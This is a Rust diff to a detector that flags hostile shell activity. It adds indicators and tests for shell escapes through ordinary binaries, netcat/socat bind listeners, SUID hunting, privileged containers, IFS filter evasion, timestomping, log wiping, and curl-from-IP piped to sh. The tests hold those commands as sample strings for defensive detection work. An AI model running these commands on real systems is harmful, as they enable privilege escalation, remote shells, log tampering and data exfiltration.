@@ -202,7 +202,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "log_wipe",
         evidence: "wipes or truncates system logs",
         all_of: &[&["/var/log", "wtmp", "btmp", "lastlog", "journalctl", "auth.log", "syslog", "utmp"]],
-        confirm: Confirm::Regex(r"rm\s+-[rf]+\s+[\x22']?/var/log/?(\*|\s|$|[\x22'])|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
+        confirm: Confirm::Regex(r"rm\s+-[rf]+\s+[\x22']?/var/log/?(\*|\s|$|[\x22'])|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|\bdd\s+[^\n]*of=\s*/var/log/|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
     },
     IndicatorDef {
         id: "security_tools_disabled",
@@ -216,7 +216,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "credential_access",
         evidence: "reads credential or secret stores (shadow, SSH keys, cloud/kube credentials, wallets)",
         all_of: &[&[
-            "/etc/shadow", "/.ssh/id_", ".ssh/id_rsa", "id_ed25519", "id_dsa", ".aws/credentials", ".docker/config.json", ".kube/config", "kubernetes.io/serviceaccount", "serviceaccount/token", ".git-credentials", ".netrc", ".pgpass", "gshadow", "master.passwd", "/etc/security/opasswd", "wallet.dat", "keychain", ".bitcoin", "electrum", "exodus", "metamask", "self/environ", "/1/environ", "/*/environ", "pid/environ", "mimipenguin", "lazagne", ".bash_history", "credentials.db", "access_tokens.db", ".vault-token", "gcloud/",
+            "/etc/shadow", "/.ssh/id_", ".ssh/id_rsa", "id_ed25519", "id_dsa", ".aws/credentials", ".docker/config.json", ".kube/config", "kubernetes.io/serviceaccount", "serviceaccount/token", ".git-credentials", ".netrc", ".pgpass", "gshadow", "master.passwd", "/etc/security/opasswd", "wallet.dat", "keychain", ".bitcoin", "electrum", "exodus", "metamask", "self/environ", "/1/environ", "/*/environ", "pid/environ", "mimipenguin", "lazagne", "credentials.db", "access_tokens.db", ".vault-token", "gcloud/",
         ]],
         confirm: Confirm::Literals,
     },
@@ -230,7 +230,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "exfil_service",
         evidence: "sends data to a webhook, paste or out-of-band service (Discord/Telegram/pastebin/ngrok)",
         all_of: &[&[
-            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
+            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
         ]],
         confirm: Confirm::Literals,
     },
@@ -449,6 +449,55 @@ pub const INDICATORS: &[IndicatorDef] = &[
             &["os.system", "subprocess.", "popen", "exec(", "eval(", "urlopen", "requests.", "urlretrieve", "socket."],
         ],
         confirm: Confirm::Regex(r"(?m:^)(os\.system|os\.popen|subprocess\.\w+|exec|eval|urllib\.request\.urlopen|urlopen|urlretrieve|requests\.(get|post))\s*\("),
+    },    IndicatorDef {
+        id: "binary_shell_escape",
+        evidence: "makes an ordinary program run a shell (find -exec sh, !sh, system(\"/bin/sh\"), --shell-escape, checkpoint actions)",
+        all_of: &[&[
+            "-exec", "!/bin/", "! /bin/", "!sh", "!bash", "system(", "exec ", "exec(", "execute(", "shell-escape", "write18", "checkpoint-action", "proxycommand", "use-askpass", "script-security", "unixexec", ".shell", "spawn",
+        ]],
+        confirm: Confirm::Regex(r"-exec\s+(/usr)?(/bin/)?(ba|da|z|k)?sh\s*(-[pi]\s*)?(\\;|;|\+|$|\n)|(^|\n|:|\\)\s*!\s*(/usr)?(/bin/)?(ba|da|z|k)?sh\b|\b(system|exec|execute|popen|spawn)\s*\(?\s*[\x22'](/usr)?(/bin/)?(ba|da|z|k)?sh\b|--shell-escape|\\(immediate)?\\?write18|--checkpoint-action=exec|ProxyCommand\s*=\s*;|--use-askpass|--script-security\s+2|unixexec:|\.shell\s+(/bin/)?(ba|da)?sh\b"),
+    },
+    IndicatorDef {
+        id: "shell_history_read",
+        evidence: "reads or copies another shell's history (secrets typed on the command line)",
+        all_of: &[&["_history"]],
+        confirm: Confirm::Regex(r"\b(cat|less|more|grep|egrep|strings|tail|head|cp|scp|tar|zip|base64|curl|nc)\b[^\n|;]*\.(bash|zsh|sh|mysql|psql|python)_history|open\([^)\n]*_history[\x22']\s*\)"),
+    },
+    IndicatorDef {
+        id: "network_listener",
+        evidence: "listens for incoming connections with netcat, socat or openssl (bind shell or catcher)",
+        all_of: &[&["nc", "ncat", "netcat", "socat", "s_server"]],
+        confirm: Confirm::Regex(r"\b(nc|ncat|netcat|nc\.traditional)\b[^\n|;]*\s-[a-z]*l[a-z]*\b|socat\b[^\n]*(tcp|udp|ssl|openssl)[46]?-listen|openssl\s+s_server"),
+    },
+    IndicatorDef {
+        id: "suid_capability_abuse",
+        evidence: "hunts for or grants SUID bits and dangerous capabilities (privilege escalation)",
+        all_of: &[&["-perm", "getcap", "setcap", "sudo -l"]],
+        confirm: Confirm::Regex(r"-perm\s+(-|/)?(u=s|g=s|-?[246]000|2|o\+w|-o\+w)\b|getcap\s+-r|setcap\s+[\x22']?cap_(setuid|setgid|dac_\w+|sys_admin|sys_ptrace|sys_module|chown|fowner)|\bsudo\s+-l\b"),
+    },
+    IndicatorDef {
+        id: "privileged_container",
+        evidence: "asks for a privileged container, host namespaces or host mounts (container escape setup)",
+        all_of: &[&["privileged", "cap-add", "unconfined", "hostpid", "hostnetwork", "hostpath", "hostipc", "auth can-i", "selfsubject", "--pid", "--net=host", "--network=host"]],
+        confirm: Confirm::Regex(r"--privileged|--cap-add[= ](SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH)|(apparmor|seccomp)[=:]unconfined|hostPID|hostIPC|hostNetwork|hostPath|auth\s+can-i|selfsubject\w*review|--pid[= ]host|--net(work)?[= ]host"),
+    },
+    IndicatorDef {
+        id: "ifs_evasion",
+        evidence: "hides spaces or slashes from filters (${IFS}, ${HOME:0:1}, tr tricks): command-injection evasion",
+        all_of: &[&["ifs", ":0:1}", "| tr", "\\x2f", "$'\\x"]],
+        confirm: Confirm::Regex(r"\$\{?IFS\}?|\$\{\w+:0:1\}|\$\(\s*echo\s+\S+\s*\|\s*tr\s|\\x2f|\$'\\x"),
+    },
+    IndicatorDef {
+        id: "timestomp",
+        evidence: "back-dates file times or the clock (timestomping)",
+        all_of: &[&["touch", "date", "timedatectl"]],
+        confirm: Confirm::Regex(r"\btouch\s+(-[a-z]*\s+)*(-r\s+\S+|-[a-z]*[td]\s+[\x22']?\d|--reference|--date)|\bdate\s+(-s\s|--set|\d{8,12}\b)|timedatectl\s+set-time"),
+    },
+    IndicatorDef {
+        id: "download_ip_pipe_shell",
+        evidence: "downloads from a bare IP address and pipes it straight into a shell or interpreter",
+        all_of: &[&["curl", "wget"]],
+        confirm: Confirm::Regex(r"\b(curl|wget)\b[^\n|;]*\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(/usr(/local)?/bin/|/bin/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php|node)\b|\$\(\s*(curl|wget)\b[^\n)]*\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
     },
 ];
 
@@ -759,6 +808,14 @@ mod tests {
             "download_pipe_interpreter"
         ));
         assert!(fires(
+            "curl -fsSL http://198.51.100.7/x.sh | sh",
+            "download_ip_pipe_shell"
+        ));
+        assert!(!fires(
+            "curl -fsSL https://get.docker.com | sh",
+            "download_ip_pipe_shell"
+        ));
+        assert!(fires(
             "wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
             "download_then_chmod_x"
         ));
@@ -946,6 +1003,78 @@ mod tests {
         assert!(!fires(
             "import os\ndef f():\n    os.system('ls')\n",
             "python_toplevel_command"
+        ));
+    }
+
+    #[test]
+    fn shell_escapes_through_ordinary_binaries() {
+        for text in [
+            "sudo find . -exec /bin/sh \\; -quit",
+            "vim -c ':!/bin/sh'",
+            "less /etc/hosts\n!/bin/sh",
+            "awk 'BEGIN {system(\"/bin/sh\")}'",
+            "pdflatex --shell-escape '\\immediate\\write18{/bin/sh}'",
+            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
+            "lua -e 'os.execute(\"/bin/sh\")'",
+        ] {
+            assert!(fires(text, "binary_shell_escape"), "{text}");
+        }
+        // Running a script through sh per file is ordinary find usage.
+        assert!(!fires(
+            "find . -name '*.txt' -exec sh -c 'mv \"$0\" \"${0%.txt}.md\"' {} \\;",
+            "binary_shell_escape"
+        ));
+        assert!(!fires("#!/bin/sh\nexec \"$@\"", "binary_shell_escape"));
+    }
+
+    #[test]
+    fn history_listeners_suid_containers_injection_timestamps() {
+        assert!(fires("cat /root/.bash_history", "shell_history_read"));
+        assert!(!fires(
+            "echo \"winecfg\" >> /home/user/.bash_history",
+            "shell_history_read"
+        ));
+        assert!(!fires(
+            "echo \"winecfg\" >> /home/user/.bash_history",
+            "credential_access"
+        ));
+        assert!(fires("nc -lvnp 4242", "network_listener"));
+        assert!(fires(
+            "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
+            "network_listener"
+        ));
+        assert!(!fires("nc -z db 5432", "network_listener"));
+        assert!(fires(
+            "find / -perm -4000 -type f 2>/dev/null",
+            "suid_capability_abuse"
+        ));
+        assert!(fires(
+            "setcap cap_setuid+ep /usr/bin/python3",
+            "suid_capability_abuse"
+        ));
+        assert!(!fires(
+            "setcap cap_net_bind_service=+ep /usr/sbin/nginx",
+            "suid_capability_abuse"
+        ));
+        assert!(fires(
+            "docker run --rm -it --cap-add=SYS_ADMIN --security-opt apparmor=unconfined ubuntu bash",
+            "privileged_container"
+        ));
+        assert!(fires("cat${IFS}/etc/passwd", "ifs_evasion"));
+        assert!(fires("touch -r /bin/ls /tmp/x", "timestomp"));
+        assert!(fires("date 010100001971", "timestomp"));
+        assert!(!fires("date +%F", "timestomp"));
+        assert!(fires(
+            "dd of=/var/log/syslog if=/dev/zero count=1",
+            "log_wipe"
+        ));
+        assert!(!fires(
+            "GO111MODULE=on go build -o /usr/bin/transfer.sh",
+            "exfil_service"
+        ));
+        assert!(fires(
+            "curl --upload-file ./k https://transfer.sh/k",
+            "exfil_service"
         ));
     }
 
